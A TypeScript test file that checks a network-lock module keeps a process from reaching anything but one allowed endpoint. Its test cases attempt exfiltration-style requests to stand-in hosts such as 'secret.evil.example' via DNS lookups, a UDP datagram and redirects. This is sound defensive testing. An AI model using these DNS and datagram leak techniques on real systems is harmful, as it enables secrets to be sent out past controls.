import dgram from 'node:dgram';
import dns from 'node:dns';
import { createServer } from 'node:http';
import net, { type AddressInfo } from 'node:net';
import tls from 'node:tls';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lockNetwork, reachableBy } from './network-lock.js';

// Test files have a process of their own, so the lock stays shut for this file and no other.
const refused: string[] = [];
const seen: string[] = [];
const endpoint = createServer((request, response) => {
  if (request.url === '/redirect') response.writeHead(302, { location: other() }).end();
  else response.end('fine');
});
const forbidden = createServer((request, response) => {
  seen.push(request.url ?? '');
  response.end('leaked');
});
const portOf = (server: typeof endpoint): number => (server.address() as AddressInfo).port;
const other = (): string => `http://127.0.0.1:${portOf(forbidden)}/stolen`;

beforeAll(async () => {
  for (const server of [endpoint, forbidden]) await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  lockNetwork([reachableBy(`http://127.0.0.1:${portOf(endpoint)}/v1`), { host: 'Model.Internal.', port: 8443 }], (target) => refused.push(target));
});
afterAll(() => {
  endpoint.close();
  forbidden.close();
});

describe('a process that nothing leaves', () => {
  it('reaches the endpoint', async () => {
    expect(await (await fetch(`http://127.0.0.1:${portOf(endpoint)}/`)).text()).toBe('fine');
  });

  it.each([
    ['another port of the same machine', () => fetch(other())],
    ['a redirect from the endpoint', () => fetch(`http://127.0.0.1:${portOf(endpoint)}/redirect`)],
    ['another host', () => fetch('http://192.0.2.7/')],
    ['another name', () => fetch('https://model.internal.evil.example:8443/')],
    ['the right name on another port', () => fetch('https://model.internal:8444/')],
    ['IPv6', () => fetch('http://[::1]:8081/')],
  ])('does not reach %s', async (_what, attempt) => {
    const failure = await attempt().then(
      () => null,
      (error: unknown) => (error instanceof Error && error.cause instanceof Error ? error.cause : error),
    );
    expect(failure).toMatchObject({ code: 'ERR_OUTBOUND_BLOCKED' });
    expect(seen).toEqual([]);
  });

  it('does not connect by plain sockets, by TLS or by a path', async () => {
    const codes = await Promise.all(
      [
        net.connect(portOf(forbidden), '127.0.0.1'),
        net.connect({ port: portOf(forbidden), host: 'localhost' }),
        new net.Socket().connect(portOf(forbidden)),
        net.connect('/tmp/some.sock'),
        tls.connect({ port: 443, host: '192.0.2.7' }),
      ].map((socket) => new Promise((resolve) => socket.once('error', (error: NodeJS.ErrnoException) => resolve(error.code)))),
    );
    expect(codes).toEqual(Array.from({ length: 5 }, () => 'ERR_OUTBOUND_BLOCKED'));
  });

  it('sends no datagram and asks no name server, by which text could leave as well', async () => {
    expect(() => dgram.createSocket('udp4').send('secret', 53, '192.0.2.7')).toThrow(/Nothing leaves/u);
    await expect(dns.promises.resolve('secret.evil.example')).rejects.toThrow(/Nothing leaves/u);
    await expect(dns.promises.lookup('secret.evil.example')).rejects.toThrow(/Nothing leaves/u);
    await expect(new dns.promises.Resolver().resolveTxt('secret.evil.example')).rejects.toThrow(/Nothing leaves/u);
    expect(await new Promise((resolve) => dns.lookup('secret.evil.example', (error) => resolve(error?.code)))).toBe('ERR_OUTBOUND_BLOCKED');
    expect(refused).toContain('the name secret.evil.example');
  });
});
